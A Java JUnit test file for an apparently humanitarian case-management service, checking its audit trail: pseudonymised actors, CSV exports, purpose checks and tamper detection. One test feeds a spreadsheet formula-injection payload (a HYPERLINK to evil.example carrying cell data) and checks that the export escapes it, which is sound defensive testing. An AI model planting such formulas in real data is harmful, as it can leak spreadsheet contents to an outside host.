package org.homeward.beneficiary.service;

import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.awaitility.Awaitility.await;

import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.stream.Stream;
import org.bson.Document;
import org.homeward.kit.test.Answer;
import org.homeward.kit.time.ProgrammeClock;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvSchema;

/** What auditors find, what a person is told, and what is noticed when somebody hides something. */
class AuditTrailTest {

    private static final String CHANGES = "/ops/v1/audit/changes";
    private static final String READS = "/ops/v1/audit/reads";
    private static final Duration SOON = Duration.ofSeconds(30);

    private final String organisation = "audit-" + UUID.randomUUID().toString().substring(0, 8);
    private final Staff worker = Staff.workerOf(organisation, "*");
    private final UUID pseudonym = Staff.pseudonym("worker-of-" + organisation);
    private final String auditing = "auditor-of-" + organisation;
    private final Staff auditor =
            Staff.of(auditing, "mission", List.of("auditor"), "*")
                    .with("Homeward-Purpose", "audit");
    private final Staff protector =
            Staff.of("dpo-of-" + organisation, "mission", List.of("data-protection-officer"), "*")
                    .with("Homeward-Purpose", "data-protection");

    @Test
    void an_auditor_finds_all_changes_of_an_aggregate_and_nobody_s_name_in_them() {
        var person = Cases.somebody();
        var id = Cases.registered(worker, person);
        worker.ifMatch(1)
                .put(
                        "/api/v1/beneficiaries/" + id,
                        Map.of("person", person, "district", "TJ-KT-VOSE"));

        var found = auditor.get(CHANGES + "?aggregate=" + id);

        assertThat(items(found))
                .extracting(
                        change -> change.path("version").asLong(),
                        change -> change.path("action").asString(),
                        change -> change.path("kind").asString(),
                        change -> change.path("organisation").asString(),
                        change -> change.path("actor").asString())
                .containsExactly(
                        tuple(
                                2L,
                                "PUT /api/v1/beneficiaries/{id}",
                                "beneficiary",
                                organisation,
                                pseudonym.toString()),
                        tuple(
                                1L,
                                "POST /api/v1/beneficiaries",
                                "beneficiary",
                                organisation,
                                pseudonym.toString()));
        assertThat(items(found).getFirst().path("fields").valueStream().map(JsonNode::asString))
                .containsExactly("district");
        assertThat(found.body())
                .doesNotContain("worker-of-", "TJ-KT-VOSE", family(person), "somebody@example.org");
    }

    @Test
    void an_auditor_follows_a_pseudonym_through_a_period_page_by_page() {
        var registered = new ArrayList<UUID>();
        for (int i = 0; i < 3; i++) {
            registered.add(Cases.registered(worker, Cases.somebody()));
        }
        var wanted = CHANGES + "?actor=" + pseudonym + "&kind=beneficiary&limit=2" + period();

        var first = auditor.get(wanted);
        var cursor = first.json().path("next").asString();
        var second = auditor.get(wanted + "&cursor=" + cursor);

        assertThat(Stream.concat(aggregates(first), aggregates(second)))
                .containsExactlyElementsOf(registered.reversed());
        assertThat(aggregates(second)).hasSize(1);
        assertThat(second.json().path("next").isNull()).isTrue();
        assertThat(
                        auditor.get(wanted.replace("=beneficiary", "=search") + "&cursor=" + cursor)
                                .problem())
                .isEqualTo("invalid-cursor");
        var yesterday = today().minusDays(1);
        assertThat(
                        items(
                                auditor.get(
                                        CHANGES
                                                + "?actor="
                                                + pseudonym
                                                + "&from="
                                                + yesterday.minusDays(90)
                                                + "&to="
                                                + yesterday)))
                .isEmpty();
    }

    @Test
    void an_auditor_finds_who_saw_a_record_and_what_somebody_saw() {
        var id = Cases.registered(worker, Cases.somebody());
        worker.read("/api/v1/beneficiaries/" + id);

        var ofTheRecord = items(auditor.get(READS + "?record=" + id));
        var ofTheWorker =
                items(auditor.get(READS + "?kind=beneficiary&actor=" + pseudonym + period()));

        assertThat(ofTheRecord).hasSize(1);
        assertThat(ofTheWorker)
                .extracting(read -> read.path("id").asString())
                .containsExactly(ofTheRecord.getFirst().path("id").asString());
        var read = ofTheRecord.getFirst();
        assertThat(read.path("actor").asString()).isEqualTo(pseudonym.toString());
        assertThat(read.path("purpose").asString()).isEqualTo("case-management");
        assertThat(read.path("roles").path(0).asString()).isEqualTo("case-worker");
        assertThat(read.path("records").path(0).asString()).isEqualTo(id.toString());
        assertThat(read.toString()).doesNotContain("worker-of-");
    }

    @Test
    void an_auditor_is_not_told_which_partner_dealt_with_whose_referral() {
        var id = Cases.registered(worker, Cases.somebody());
        var partner = "partner-" + organisation.substring("audit-".length());
        var machine = Staff.of("machine-of-" + partner, partner, List.of("partner-api"), "*");
        var referral = referred(id, partner);
        machine.read(referral);
        assertThat(machine.ifMatch(1).post(referral + "/acceptance", null).status()).isEqualTo(200);
        assertThat(tellsOfSomebody(machine).status()).isEqualTo(201);

        var ofThePerson = auditor.get(READS + "?record=" + id);
        var ofTheReferral = auditor.get(CHANGES + "?aggregate=" + referral.substring(18));
        var byKind = auditor.get(READS + "?kind=referral" + period());
        var me = Staff.pseudonym("machine-of-" + partner);
        var read = auditor.get(READS + "?actor=" + me + period());
        var changed = auditor.get(CHANGES + "?actor=" + me + period());

        assertThat(items(ofThePerson))
                .filteredOn(entry -> entry.path("kind").asString().equals("referral"))
                .singleElement()
                .satisfies(
                        entry -> {
                            assertThat(entry.path("actor").asString()).isEqualTo(me.toString());
                            assertThat(entry.path("organisation").isNull()).isTrue();
                        });
        assertThat(items(ofTheReferral))
                .hasSize(2)
                .allMatch(entry -> entry.path("organisation").isNull());
        assertThat(items(read)).hasSize(1);
        assertThat(items(changed)).hasSize(2);
        var readTable = table(READS + "?actor=" + me + period());
        var changedTable = table(CHANGES + "?actor=" + me + period());
        assertThat(rows(readTable)).hasSize(1).allMatch(row -> "".equals(row.get("organisation")));
        assertThat(rows(changedTable))
                .hasSize(2)
                .allMatch(row -> "".equals(row.get("organisation")));
        for (var answer :
                List.of(
                        ofThePerson,
                        ofTheReferral,
                        byKind,
                        read,
                        changed,
                        readTable,
                        changedTable)) {
            assertThat(answer.status()).isEqualTo(200);
            assertThat(answer.body()).doesNotContain(partner);
        }
        assertThat(items(auditor.get(CHANGES + "?aggregate=" + id)))
                .allMatch(entry -> entry.path("organisation").asString().equals(organisation));
    }

    @Test
    void a_search_over_everything_needs_a_period_that_can_be_searched_and_a_purpose() {
        for (var path : List.of(CHANGES, READS)) {
            for (var period :
                    List.of(
                            "",
                            "?from=2026-01-01",
                            "?to=2026-01-01",
                            "?from=2026-01-01&to=2026-04-03",
                            "?from=2026-01-02&to=2026-01-01",
                            "?from=2026-1-2&to=2026-01-02")) {
                var answer = auditor.get(path + period);
                assertThat(answer.status()).as(path + period).isEqualTo(400);
                assertThat(answer.problem()).isEqualTo("invalid-parameter");
            }
            assertThat(auditor.get(path + "?from=2026-01-01&to=2026-04-02").status())
                    .isEqualTo(200);
            assertThat(Staff.in("auditor").get(path + "?from=2026-01-01&to=2026-01-02").problem())
                    .isEqualTo("purpose-required");
        }
        assertThat(auditor.get(READS + "?record=" + UUID.randomUUID() + "&cursor=x").problem())
                .isEqualTo("invalid-cursor");
    }

    @Test
    void every_search_is_on_record_also_one_that_found_nothing() {
        var id = Cases.registered(worker, Cases.somebody());
        var nowhere = UUID.randomUUID();
        var inATable = UUID.randomUUID();

        auditor.get(CHANGES + "?aggregate=" + id);
        auditor.get(READS + "?record=" + nowhere);
        auditor.get(CHANGES + "?kind=none" + period());
        table(READS + "?record=" + inATable);

        assertThat(Database.stored("access", new Document("subject", auditing)))
                .allMatch(entry -> entry.getString("type").equals("audit"))
                .allMatch(entry -> entry.getString("purpose").equals("audit"))
                .extracting(entry -> entry.getList("records", UUID.class).toString())
                .containsExactlyInAnyOrder(
                        "[" + id + "]",
                        "[" + nowhere + "]",
                        "[" + inATable + "]",
                        "[" + new UUID(0, 0) + "]");
    }

    @Test
    void a_table_says_what_the_list_says_page_by_page() {
        var person = Cases.somebody();
        var id = Cases.registered(worker, person);
        worker.ifMatch(1)
                .put(
                        "/api/v1/beneficiaries/" + id,
                        Map.of("person", person, "district", "TJ-KT-VOSE"));
        var asked = CHANGES + "?aggregate=" + id;
        await().atMost(SOON)
                .until(
                        () ->
                                items(auditor.get(asked)).stream()
                                        .noneMatch(change -> change.path("seal").isNull()));
        var listed = items(auditor.get(asked));

        var first = table(asked + "&limit=1");
        var second = table(asked + "&limit=1&cursor=" + first.header("Next-Cursor"));

        assertThat(first.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
        assertThat(first.header("Content-Disposition"))
                .isEqualTo("attachment; filename=\"changes.csv\"");
        assertThat(first.header("Cache-Control")).isEqualTo("no-store");
        assertThat(second.header("Next-Cursor")).isEmpty();
        var rows = Stream.of(first, second).flatMap(page -> rows(page).stream()).toList();
        assertThat(rows).hasSize(2).isEqualTo(listed.stream().map(AuditTrailTest::flat).toList());
        assertThat(first.body()).contains("," + listed.getFirst().path("version").asLong() + ",");
        var none = table(READS + "?record=" + UUID.randomUUID());
        assertThat(none.body()).startsWith("\"id\",\"at\",").endsWith("\"seal.position\"\r\n");
        assertThat(none.body().lines()).hasSize(1);
    }

    @Test
    void a_table_of_readings_says_what_was_sought_too() {
        auditor.get(READS + "?actor=" + pseudonym + "&from=2026-01-05&to=2026-02-06");
        var mine = new Document("subject", auditing);
        await().atMost(SOON)
                .until(
                        () ->
                                Database.stored("access", mine).getFirst().get("seal")
                                        instanceof Document);
        var asked = READS + "?kind=audit&actor=" + Staff.pseudonym(auditing) + period();
        var listed = items(auditor.get(asked)).getLast();

        var rows = rows(table(asked));

        assertThat(rows.getLast())
                .isEqualTo(flat(listed))
                .containsEntry("sought.from", "2026-01-05")
                .containsKey("seal.position");
    }

    @Test
    void what_would_be_a_formula_in_a_spreadsheet_is_text_in_the_table() {
        var formula = "=HYPERLINK(\"https://evil.example/?\"&A1;\"open\")";
        var sought = UUID.randomUUID();
        var evil =
                Staff.of(
                        "evil-" + organisation,
                        formula,
                        List.of("auditor", "\t=1+1;@SUM(A1)"),
                        "*");
        assertThat(evil.with("Homeward-Purpose", "audit").get(READS + "?record=" + sought).status())
                .isEqualTo(200);

        var listed = items(auditor.get(READS + "?record=" + sought));
        var table = table(READS + "?record=" + sought);

        assertThat(listed.getFirst().path("organisation").asString()).isEqualTo(formula);
        assertThat(table.body())
                .contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1;\"\"open\"\")\",")
                .contains(",\"'\t'=1+1;'@SUM(A1) auditor\",");
    }

    @Test
    void a_table_that_is_not_to_be_had_is_a_problem_like_any_other() {
        var somebody = READS + "?record=" + UUID.randomUUID();
        var asTable = auditor.with("Accept", "text/csv");
        var unauthorised = worker.with("Accept", "text/csv");
        var image = auditor.with("Accept", "image/png");

        var answers =
                List.of(
                        asTable.with("Homeward-Purpose", "curiosity").get(somebody),
                        asTable.get(READS),
                        asTable.get(somebody + "&limit=101"),
                        asTable.get(somebody + "&cursor=x"),
                        unauthorised.get(somebody),
                        asTable.get("/ops/v1/audit/elsewhere"),
                        image.get(somebody));

        assertThat(answers)
                .extracting(Answer::status, Answer::problem)
                .containsExactly(
                        tuple(400, "purpose-required"),
                        tuple(400, "invalid-parameter"),
                        tuple(400, "invalid-parameter"),
                        tuple(400, "invalid-cursor"),
                        tuple(403, "forbidden"),
                        tuple(404, "no-such-endpoint"),
                        tuple(406, "not-acceptable"));
        assertThat(answers)
                .allMatch(one -> one.header("Content-Type").startsWith("application/problem+json"))
                .allMatch(one -> one.header("Content-Disposition").isEmpty());
        assertThat(asTable.get("/problems").status()).isEqualTo(406);
    }

    @Test
    void a_table_is_answered_to_who_prefers_one_and_a_list_to_all_others() {
        var somebody = READS + "?record=" + UUID.randomUUID();

        for (var accepted :
                List.of("text/csv", "text/*", "application/json;q=0.5, text/csv;header=absent")) {
            assertThat(auditor.with("Accept", accepted).get(somebody).header("Content-Type"))
                    .as(accepted)
                    .isEqualTo("text/csv;charset=UTF-8");
        }
        for (var accepted :
                List.of("*/*", "application/json", "application/*", "text/csv;q=0.1, */*")) {
            assertThat(auditor.with("Accept", accepted).get(somebody).header("Content-Type"))
                    .as(accepted)
                    .isEqualTo("application/json");
        }
        assertThat(auditor.get(somebody).header("Content-Type")).isEqualTo("application/json");
    }

    @Test
    void a_table_that_can_not_be_recorded_is_not_answered() {
        var id = Cases.registered(worker, Cases.somebody());
        var own =
                Staff.of("auditor-in-" + organisation, organisation, List.of("auditor"), "*")
                        .with("Homeward-Purpose", "audit")
                        .with("Accept", "text/csv");
        Database.refuse("access", "organisation", organisation);
        try {
            var answer = own.get(CHANGES + "?aggregate=" + id);
            assertThat(answer.status()).isEqualTo(503);
            assertThat(answer.body()).doesNotContain(id.toString());
        } finally {
            Database.refuseNothing("access");
        }
        assertThat(own.get(CHANGES + "?aggregate=" + id).body()).contains(id.toString());
    }

    @Test
    void whom_and_which_days_an_auditor_searched_for_is_on_record_signed_and_found_by_the_next() {
        var sought = UUID.randomUUID();

        auditor.get(READS + "?actor=" + sought + "&from=2026-01-05&to=2026-02-06");

        var mine = new Document("subject", auditing);
        await().atMost(SOON)
                .until(
                        () ->
                                Database.stored("access", mine).getFirst().get("seal")
                                        instanceof Document);
        var entry = Database.stored("access", mine).getFirst();
        assertThat(entry.get("sought", Document.class))
                .containsExactly(
                        Map.entry("actor", sought),
                        Map.entry("from", "2026-01-05"),
                        Map.entry("to", "2026-02-06"));
        var me = Staff.pseudonym(auditing);
        var seen = items(auditor.get(READS + "?kind=audit&actor=" + me + period())).getFirst();
        assertThat(seen.path("sought").path("actor").asString()).isEqualTo(sought.toString());
        assertThat(seen.path("sought").path("from").asString()).isEqualTo("2026-01-05");
        assertThat(seen.path("sought").path("to").asString()).isEqualTo("2026-02-06");
        var id = entry.get("_id", UUID.class).toString();
        assertThat(findings()).noneMatch(finding -> finding.path("entry").asString().equals(id));
        Database.replace("access", new Document(entry).append("sought", new Document("actor", me)));
        assertThat(findings())
                .filteredOn(finding -> finding.path("entry").asString().equals(id))
                .hasSize(1);
        Database.replace("access", entry);
    }

    @Test
    void a_person_is_told_who_read_her_file_and_not_which_of_the_staff_it_was() {
        var id = Cases.registered(worker, Cases.somebody());
        worker.read("/api/v1/beneficiaries/" + id);
        worker.read("/api/v1/beneficiaries/" + id + "/consents");
        worker.read("/api/v1/beneficiaries/" + Cases.registered(worker, Cases.somebody()));

        var told = protector.get(readings(id));

        assertThat(items(told))
                .hasSize(2)
                .allMatch(reading -> reading.path("organisation").asString().equals(organisation))
                .allMatch(reading -> reading.path("purpose").asString().equals("case-management"))
                .allMatch(reading -> reading.path("roles").path(0).asString().equals("case-worker"))
                .allMatch(reading -> !reading.path("at").asString().isEmpty());
        assertThat(told.body()).doesNotContain("worker-of-", pseudonym.toString());
        assertThat(items(protector.get(readings(id))))
                .hasSize(3)
                .first()
                .satisfies(
                        reading ->
                                assertThat(reading.path("purpose").asString())
                                        .isEqualTo("data-protection"));
        assertThat(protector.get(readings(UUID.randomUUID())).status()).isEqualTo(404);
    }

    @Test
    void a_reading_that_can_not_be_recorded_is_not_answered() {
        var person = Cases.somebody();
        var id = Cases.registered(worker, person);
        var file = "/api/v1/beneficiaries/" + id;
        Database.refuse("access", "organisation", organisation);
        try {
            for (var path : List.of(file, "/api/v1/beneficiaries", file + "/consents")) {
                var answer = worker.read(path);
                assertThat(answer.status()).as(path).isEqualTo(503);
                assertThat(answer.body()).doesNotContain(family(person), id.toString());
            }
        } finally {
            Database.refuseNothing("access");
        }
        assertThat(worker.read(file).body()).contains(family(person));
    }

    @Test
    void who_changes_a_sealed_reading_is_found_out_and_what_nobody_touched_is_not_named() {
        var id = Cases.registered(worker, Cases.somebody());
        worker.read("/api/v1/beneficiaries/" + id);
        await().atMost(SOON).until(() -> access(id).get("seal") instanceof Document);
        var read = access(id);
        var before = findings();

        Database.replace("access", new Document(read).append("purpose", "registration"));
        var found = findings();
        Database.replace("access", read);

        var entry = read.get("_id", UUID.class).toString();
        var place = read.get("seal", Document.class);
        assertThat(before).noneMatch(finding -> finding.path("entry").asString().equals(entry));
        assertThat(found)
                .filteredOn(finding -> finding.path("entry").asString().equals(entry))
                .singleElement()
                .satisfies(
                        finding -> {
                            assertThat(finding.path("kind").asString()).isEqualTo("ALTERED");
                            assertThat(finding.path("log").asString()).isEqualTo("access");
                            assertThat(finding.path("batch").asLong())
                                    .isEqualTo(place.getLong("n"));
                            assertThat(finding.path("position").asInt())
                                    .isEqualTo(place.getInteger("i"));
                        });
        assertThat(Database.stored("access", new Document("subject", auditing)))
                .hasSize(2)
                .allMatch(asked -> asked.getString("type").equals("seals"));
    }

    /** The path of a referral that she agreed to. */
    private String referred(UUID person, String partner) {
        var file = "/api/v1/beneficiaries/" + person;
        var asked =
                worker.post(
                        file + "/consents",
                        Map.of(
                                "purpose", "SHARING_WITH_PARTNER",
                                "partner", partner,
                                "language", "tg",
                                "textVersion", "2026-1"));
        worker.ifMatch(1).post("/api/v1/consents/" + asked.id() + "/agreement", Cases.signed());
        var made =
                worker.post(
                        file + "/referrals",
                        Map.of(
                                "service", "SHELTER",
                                "partner", partner,
                                "due", "2090-01-01",
                                "note", "She needs a bed"));
        assertThat(made.status()).as(made.toString()).isEqualTo(201);
        return made.location();
    }

    private Answer tellsOfSomebody(Staff partner) {
        return partner.post(
                "/api/v1/incoming-referrals",
                Map.of(
                        "to",
                        organisation,
                        "district",
                        Cases.DISTRICT,
                        "channel",
                        "COMMUNITY_HEAD",
                        "about",
                        "Somebody who needs help"));
    }

    private List<JsonNode> findings() {
        var answer = auditor.post("/ops/v1/audit/verification", null);
        assertThat(answer.status()).as(answer.toString()).isEqualTo(200);
        return answer.json().path("findings").valueStream().toList();
    }

    private static Document access(UUID record) {
        return Database.stored("access", new Document("records", record)).getFirst();
    }

    private static String readings(UUID beneficiary) {
        return "/api/v1/beneficiaries/" + beneficiary + "/readings";
    }

    private static String period() {
        return "&from=" + today().minusDays(1) + "&to=" + today().plusDays(1);
    }

    private static LocalDate today() {
        return LocalDate.now(ProgrammeClock.ZONE);
    }

    private static String family(Map<String, Object> person) {
        return person.get("name") instanceof Map<?, ?> name
                ? String.valueOf(name.get("family"))
                : "";
    }

    private static List<JsonNode> items(Answer answer) {
        assertThat(answer.status()).as(answer.toString()).isEqualTo(200);
        return answer.json().path("items").valueStream().toList();
    }

    private Answer table(String path) {
        var answer = auditor.with("Accept", "text/csv").get(path);
        assertThat(answer.status()).as(answer.toString()).isEqualTo(200);
        return answer;
    }

    /** Each by the names of its columns, and what is empty as the empty text. */
    private static List<Map<String, String>> rows(Answer table) {
        return new CsvMapper()
                .readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader())
                .<Map<String, String>>readValues(table.body())
                .readAll();
    }

    /** What stands in a list as it stands in a table. */
    private static Map<String, String> flat(JsonNode item) {
        var flat = new TreeMap<String, String>();
        for (var member : item.properties()) {
            var value = member.getValue();
            if (value.isObject()) {
                value.properties()
                        .forEach(
                                part ->
                                        flat.put(
                                                member.getKey() + "." + part.getKey(),
                                                part.getValue().asString("")));
            } else if (value.isArray()) {
                flat.put(
                        member.getKey(),
                        value.valueStream().map(JsonNode::asString).collect(joining(" ")));
            } else {
                flat.put(member.getKey(), value.asString(""));
            }
        }
        return flat;
    }

    private static Stream<UUID> aggregates(Answer answer) {
        return items(answer).stream()
                .map(change -> UUID.fromString(change.path("aggregate").asString()));
    }
}
